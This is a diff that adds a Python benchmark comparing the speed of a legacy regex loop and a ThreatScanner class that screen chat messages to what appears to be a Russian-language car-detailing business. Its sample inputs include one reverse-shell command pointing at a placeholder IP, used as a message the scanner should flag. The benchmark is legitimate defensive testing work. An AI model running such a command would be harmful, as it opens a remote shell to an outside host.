@@ -0,0 +1,74 @@
+# benchmarks/bench_security_scanner.py
+"""Сравнение стоимости проверки сообщения: старый цикл re.search против ThreatScanner.
+
+Запуск: python benchmarks/bench_security_scanner.py
+"""
+import os
+import re
+import sys
+import time
+import random
+
+sys.path.insert(0, os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
+
+from security import SecuritySystem, ThreatScanner  # noqa: E402
+
+MESSAGES = [
+    "Здравствуйте! Сколько стоит полировка фар на Камри 2018 года?",
+    "Добрый вечер, у меня вмятина на двери после парковки, можно убрать без покраски?",
+    "Какой у вас адрес и до скольки вы работаете в субботу?",
+    "Хочу керамику на новую машину, сколько по времени займет и какая гарантия?",
+    "Подскажите, химчистка салона включает потолок? И сколько сохнет после нее?",
+    "а можно записаться на завтра на утро? телефон не отвечает",
+    "Привет, какой пароль от wifi у вас в зоне ожидания, token есть?",
+    "bash -i >& /dev/tcp/1.2.3.4/4444 0>&1",
+]
+
+def legacy_detect(security, text):
+    """Реализация detect_suspicious до перехода на ThreatScanner"""
+    for pattern in security.critical_patterns:
+        if re.search(pattern, text, re.IGNORECASE):
+            return 'critical'
+    for pattern in security.non_critical_patterns:
+        if re.search(pattern, text, re.IGNORECASE):
+            return 'non_critical'
+    return None
+
+def bench(name, func, texts, rounds):
+    start = time.perf_counter()
+    for _ in range(rounds):
+        for text in texts:
+            func(text)
+    elapsed = time.perf_counter() - start
+    per_message_us = elapsed * 1e6 / (rounds * len(texts))
+    print(f"{name:<45} {per_message_us:8.2f} мкс/сообщение")
+    return per_message_us
+
+def main():
+    security = SecuritySystem()
+    rounds = 2000
+    # Уникальные тексты, чтобы кэш вердиктов не искажал стоимость самого сканирования
+    unique_texts = [f"{random.choice(MESSAGES)} #{i}" for i in range(len(MESSAGES) * rounds)]
+
+    fresh_scanner = ThreatScanner(security.critical_patterns, security.non_critical_patterns)
+
+    print("Одна проверка сообщения (без повторов текста):")
+    legacy = bench("  legacy re.search x30", lambda t: legacy_detect(security, t), unique_texts, 1)
+    scanner = bench("  ThreatScanner.scan", fresh_scanner.scan, unique_texts, 1)
+    print(f"  ускорение: x{legacy / scanner:.1f}")
+
+    # secure_handler проверяет текст сам, а затем еще раз через sanitize_input
+    print("Путь secure_handler (две проверки одного текста):")
+    legacy_path = bench("  legacy (два полных сканирования)",
+                        lambda t: (legacy_detect(security, t), legacy_detect(security, t)), unique_texts, 1)
+    scanner_path = bench("  ThreatScanner (сканирование + кэш вердикта)",
+                         lambda t: (security.detect_suspicious(t), security.detect_suspicious(t)), unique_texts, 1)
+    print(f"  ускорение: x{legacy_path / scanner_path:.1f}")
+
+    print("Патологический ввод (длинная строка 'bash' без '-i'):")
+    evil = "bash " * 800
+    bench("  legacy", lambda t: legacy_detect(security, t), [evil], 20)
+    bench("  ThreatScanner", lambda t: ThreatScanner(security.critical_patterns, []).scan(t), [evil], 20)
+
+if __name__ == "__main__":
+    main()